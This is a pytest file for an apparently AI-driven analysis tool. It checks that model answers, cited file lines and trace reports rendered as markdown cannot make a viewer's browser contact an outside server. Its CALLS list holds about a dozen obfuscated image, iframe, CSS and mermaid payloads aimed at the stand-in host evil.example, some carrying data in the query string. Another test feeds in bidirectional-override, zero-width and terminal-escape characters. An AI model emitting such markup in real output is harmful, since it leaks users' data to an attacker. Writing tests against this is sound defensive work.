"""Answers, traces and names of files hold markup that makes whoever shows a run's pages call a stranger's server."""

from __future__ import annotations

import json
import re

import pytest
from victim import Victim

from engines.trace_cases import TRACE, failed_trace

CALLS = [
    "![x](https&colon;//evil.example/p.png?d=1)",
    "![x](https:&sol;&sol;evil.example/p.png)",
    "![x](https:evil.example/x)",
    "![x][r]\n\n[r]: https&#58;//evil.example/p.png",
    '<img src="https://evil.example/p.png">',
    '<style>@import "https://evil.example/p.css"</style>',
    "![x](\\/\\/evil.example/p.png)",
    "![[x]][r]",
    "<!-- hidden --><iframe src=//evil.example>",
    "a\u2028![x](https://evil.example/p.png)",
    "<https://evil.example/?d=1>",
    "``` mermaid\nA[<b style='background:url(https://evil.example)'>]\n```",
]


def calls_nobody(page: str) -> bool:
    """No picture, no tag but a break and no definition, as the text stands; tests/core renders such pages."""
    return not re.search(
        r"(?<!\\)!\[[^\]]*\](\(|\[)|<(?!br>)[a-z/!?]|^ {0,3}\[[^\]]*\]:|\]\((?!#)", page, re.IGNORECASE | re.MULTILINE
    )


def test_an_answer_calls_nobody_when_it_is_shown(victim: Victim) -> None:
    victim.write("notes.txt", "the service is payments\n")
    text = "\n\n".join(CALLS) + "\n\nThe service is payments. [notes.txt:1-1]"
    model = victim.model("print(read_file('notes.txt'))", f"FINAL({text!r})")

    done = victim.call("ask", "Which service?", "notes.txt", "--runs-dir", victim.own, "--model", model.name)

    assert done.returncode == 0
    for name in ("answer.md", "summary.md"):
        shown = re.sub(r"(?ms)^```\n.*?^```$", "", next(victim.own.rglob(name)).read_text())
        assert "payments" in shown
        assert calls_nobody(shown), shown


@pytest.mark.parametrize("text", [each for each in CALLS if "mermaid" not in each])
def test_a_cited_line_calls_nobody_when_it_is_shown(victim: Victim, text: str) -> None:
    victim.write("notes.txt", text.replace("\n", " ") + " payments\n")
    model = victim.model("print(read_file('notes.txt'))", "FINAL('It is payments. [notes.txt:1-1]')")

    done = victim.call("ask", "Which service?", "notes.txt", "--runs-dir", victim.own, "--model", model.name)

    assert done.returncode == 0
    assert calls_nobody(next(victim.own.rglob("summary.md")).read_text())


@pytest.mark.parametrize("command", ["rca", "comply"])
def test_the_report_on_a_trace_calls_nobody_when_it_is_shown(victim: Victim, command: str) -> None:
    rows = failed_trace()
    rows[-1]["status_message"] = "timeout " + " ".join(CALLS)
    rows[-1]["attributes"] |= {"tool.name": CALLS[0], "output.value": "\n\n".join(CALLS)}
    victim.write("traces.jsonl", "".join(json.dumps(row) + "\n" for row in rows))

    done = victim.call(command, TRACE, "--source", "traces.jsonl", "--runs-dir", victim.own)

    assert done.returncode == 0, done.stderr
    for name in ("report.md", "summary.md", "annotations.jsonl"):
        assert calls_nobody(next(victim.own.rglob(name)).read_text()), name


def test_what_turns_text_around_or_shows_nothing_is_written_out_in_pages(victim: Victim) -> None:
    rows = failed_trace()
    rows[-1]["name"] = "x\u202egnp.exe\u200b \u2066y\x1b[2J"
    rows[-1]["status_message"] = "timeout of \u202elaer\u202c"
    victim.write("traces.jsonl", "".join(json.dumps(row) + "\n" for row in rows))
    victim.write("notes.txt", "the service is payments\n")
    said = "It is \u202epay\u200bments\U000e0041 \U0001f469\u200d\U0001f4bb. [notes.txt:1-1]"
    model = victim.model("print(read_file('notes.txt'))", f"FINAL({said!r})")

    for words in (("rca", TRACE, "--source", "traces.jsonl"), ("ask", "Which?", "notes.txt", "--model", model.name)):
        assert victim.call(*words, "--runs-dir", victim.own).returncode == 0

    pages = {path: path.read_text() for path in victim.own.rglob("*.md")}
    assert {path.name for path in pages} == {"answer.md", "report.md", "summary.md"}
    assert not re.search("[\u202a-\u202e\u2060-\u206f\u200b\x1b\U000e0041]", "".join(pages.values()))
    assert "<U+202E>" in next(page for path, page in pages.items() if path.name == "report.md")
    assert any("It is <U+202E>pay<U+200B>ments<U+E0041> \U0001f469\u200d\U0001f4bb." in page for page in pages.values())
